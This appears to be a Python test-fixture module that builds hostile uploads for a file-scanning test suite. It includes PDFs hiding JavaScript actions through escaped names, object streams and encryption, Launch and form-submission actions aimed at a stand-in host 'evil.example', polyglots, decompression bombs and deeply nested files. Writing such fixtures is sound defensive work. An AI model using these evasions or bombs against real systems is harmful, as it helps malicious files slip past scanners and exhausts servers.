"""Files that somebody hostile would send: PDFs with a program in every disguise, and 150 of every other kind.

They are built here from the formats' rules, each the same each time; most are a sound file with one thing changed.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf

from tests.sample_uploads import PDF, chunk, jpeg, pdf, png, stream

JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def _object_stream(type_name: bytes, between: bytes = b"\n") -> bytes:
    """A PDF whose action is in an object stream, found by its cross-reference stream, as writers make it."""
    with pikepdf.open(io.BytesIO(PDF)) as made:
        action = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
        made.Root.OpenAction = action
        out = io.BytesIO()
        made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, linearize=False)
    plain = out.getvalue()
    changed = plain.replace(b"/ObjStm", type_name).replace(b">>\nstream\n", b">>" + between + b"stream\n", 1)
    # The cross-reference stream comes behind: its place has moved.
    place = int(plain.rpartition(b"startxref\n")[2].split()[0])
    moved = place + len(changed) - len(plain)
    return changed.replace(b"startxref\n%d" % place, b"startxref\n%d" % moved)


def _encrypted(password: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(JAVASCRIPT, catalog=b"/OpenAction 4 0 R"))) as made:
        made.save(out, encryption=pikepdf.Encryption(owner="owner", user=password))
    return out.getvalue()


def hostile_pdfs() -> dict[str, bytes]:
    """Sixteen PDFs that do something when they are opened, or carry something."""
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s >>]"
    return {
        "an escaped name of an object stream": _object_stream(b"/#4fbjStm"),
        "padding before the word stream": _object_stream(b"/ObjStm", b" " * 600 + b"\n"),
        "an object stream": _object_stream(b"/ObjStm"),
        "a NUL after a name": pdf(b"<< /S\0/JavaScript\0/JS (app.alert(1)) >>", catalog=b"/OpenAction\x004 0 R"),
        "an escaped name": pdf(b"<< /#53 /J#61vaScr#69pt /#4a#53 (app.alert(1)) >>", catalog=b"/Open#41ction 4 0 R"),
        "additional actions of a page": pdf(page=b"/AA << /O %s >>" % JAVASCRIPT),
        "a program among names": pdf(catalog=b"/Names << /JavaScript << /Names [(x) %s] >> >>" % JAVASCRIPT),
        "a launch": pdf(page=link % b"<< /S /Launch /F (cmd.exe) >>"),
        "an address": pdf(page=link % b"<< /S /URI /URI (https://evil.example) >>"),
        "a form that is sent": pdf(page=link % b"<< /S /SubmitForm /F (https://evil.example) >>"),
        "another file": pdf(page=link % b"<< /S /GoToR /F (//evil.example/share) /D [0 /Fit] >>"),
        "a file inside": pdf(
            b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", stream(b"MZ", more=b"/Type /EmbeddedFile "),
            catalog=b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
        ),
        "a form of XFA": pdf(stream(b"<xdp:xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>"),
        "a chain of actions": pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next %s >>" % JAVASCRIPT),
        "a locked program": _encrypted(""),
        "a stream that is elsewhere": pdf(b"<< /F (//evil.example/x) /Length 0 >>\nstream\n\nendstream"),
    }  # fmt: skip


def hostile_files(number: int = 150) -> Iterator[tuple[str, bytes]]:
    """Yield so many more files: polyglots, bombs, cut ones, huge ones, nested ones, each with a name."""
    chance = random.Random(20_261_126)
    kinds = (_polyglot, _bomb, _cut, _huge, _nested, _wrong, _active)
    for at in range(number):
        kind = kinds[at % len(kinds)]
        yield f"{kind.__name__.strip('_')} {at}", kind(chance, at)


def _archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("a.txt", "a")
    return out.getvalue()


def _sound(chance: random.Random) -> bytes:
    return chance.choice((PDF, png(), jpeg()))


def _polyglot(chance: random.Random, at: int) -> bytes:
    page = b"<html><script>x</script></html>"
    return (
        _sound(chance) + _archive(),
        PDF.replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + page + b"\n"),
        b"\xff\xd8\xff\xfe" + struct.pack(">H", len(page) + 2) + page + jpeg()[2:],
        png(1, 1, chunk(b"tEXt", b"c\0" + page)),
        png() + PDF,
    )[at // 7 % 5]


def _bomb(chance: random.Random, at: int) -> bytes:
    size = chance.randint(420, 560) * 2**20
    return (
        lambda: pdf(stream(b"\0" * size)),
        lambda: png(7_000, 7_000)[:41] + chunk(b"IDAT", zlib.compress(b"\0" * 2**20)) + chunk(b"IEND", b""),
        lambda: pdf(b"<< /Filter [%s] /Length 0 >>\nstream\n\nendstream" % (b"/FlateDecode " * 40)),
        lambda: pdf(
            stream(zlib.compress(b"\0" * size)).replace(b"/FlateDecode", b"[/FlateDecode /FlateDecode]")
        ),
        lambda: pdf(catalog=b"[" * chance.randint(100_000, 2_000_000)),
    )[at // 7 % 5]()  # fmt: skip


def _cut(chance: random.Random, at: int) -> bytes:
    whole = _sound(chance)
    return whole[: chance.randint(5, len(whole) - 8)]


def _huge(chance: random.Random, at: int) -> bytes:
    width, height = chance.randint(20_000, 65_000), chance.randint(20_000, 65_000)
    return (
        lambda: png(width, height),
        lambda: jpeg(width, height),
        lambda: pdf(stream(b"", more=b"/Subtype /Image /Width %d /Height %d " % (width, height))),
        lambda: _sound(chance) + b"\0" * (10 * 2**20),
    )[at // 7 % 4]()


def _nested(chance: random.Random, at: int) -> bytes:
    depth = chance.randint(600, 60_000)
    return (
        lambda: pdf(b"[" * depth + b"]" * depth),
        lambda: pdf(b"<< /A " * depth + b"null" + b" >>" * depth),
        lambda: pdf(*(b"<< /Parent %d 0 R /Kids [%d 0 R] >>" % (n, n) for n in range(4, 40)), catalog=b"/AA 4 0 R"),
        lambda: PDF.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
    )[at // 7 % 4]()


def _wrong(chance: random.Random, at: int) -> bytes:
    """A program, an office document, a drawing, noise, a beginning without a file."""
    noise = chance.randbytes(chance.randint(1, 4_000))
    return (
        b"MZ" + noise, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise, b"<svg xmlns='http://www.w3.org/2000/svg'/>", noise,
        b"%PDF-1.7\n" + noise + b"\n%%EOF", b"\xff\xd8\xff" + noise + b"\xff\xd9", b"\x89PNG\r\n\x1a\n" + noise, b"",
    )[at // 7 % 8]  # fmt: skip


def _active(chance: random.Random, at: int) -> bytes:
    """A PDF with one of the sixteen ways, and more objects around it."""
    found = list(hostile_pdfs().values())
    return found[at // 7 % len(found)].replace(b"%PDF-1.7", b"%%PDF-1.%d" % chance.randint(3, 7))


def costly_pdf() -> bytes:
    """A sound PDF of 8 MB that takes a reader of all its objects a minute: a list of empty dictionaries."""
    return pdf(b"[" + b"<<>>" * 700_000 + b"]")
